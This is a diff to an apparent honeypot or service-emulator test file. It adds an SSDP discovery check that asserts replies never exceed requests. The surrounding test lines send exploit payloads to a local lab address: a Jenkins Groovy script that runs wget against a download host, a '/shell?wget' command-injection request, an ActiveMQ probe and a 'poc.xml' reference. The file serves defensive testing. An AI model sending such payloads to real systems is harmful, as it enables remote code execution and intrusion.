@@ -5,6 +5,7 @@ from __future__ import annotations
 import asyncio
 import json
 import re
+import socket
 from pathlib import Path
 
 from eudaemon.payload.fetch.policy import FetchSettings
@@ -37,6 +38,26 @@ async def said(*command: str) -> str:
     return (await process.communicate())[0].decode()
 
 
+def searched() -> bool:
+    """Search over UDP until the answer is whole, as clients do; never may more come back than was sent."""
+    search = (
+        b'M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nST: upnp:rootdevice\r\nMAN: "ssdp:discover"\r\n'
+        b"MX: 2\r\n\r\n"
+    )
+    sent = got = 0
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
+        client.settimeout(5)
+        for _ in range(8):
+            client.sendto(search, (ADDRESS, 1900))
+            answer = client.recv(65_536)
+            sent, got = sent + len(search), got + len(answer)
+            assert got <= sent
+            assert b"\r\nST:upnp:rootdevice\r\n" in answer
+            if b"\r\nUSN:uuid:" in answer:
+                return True
+    return False
+
+
 async def test_clients_and_scanners(tmp_path: Path) -> None:
     curl, upnpc, nmap = tool("curl", "curl"), tool("upnpc", "miniupnpc"), tool("nmap", "nmap")
     lab = FetchSettings(lab_networks=("127.0.0.0/8",))
@@ -67,6 +88,7 @@ async def test_clients_and_scanners(tmp_path: Path) -> None:
             script = f'script=println "wget {where}/jenkins".execute().text'
             assert "200 OK" in await posted(f"{base}:8082/scriptText", script)
             assert "200 OK" in await posted(f"https://{ADDRESS}/shell?wget+{where}/https", "")
+            assert await asyncio.get_running_loop().run_in_executor(None, searched)
             reader, writer = await asyncio.open_connection(ADDRESS, 61616)
             assert b"ActiveMQ" in await reader.read(4096)
             xml = f"http://127.0.0.1:{beans}/poc.xml".encode()
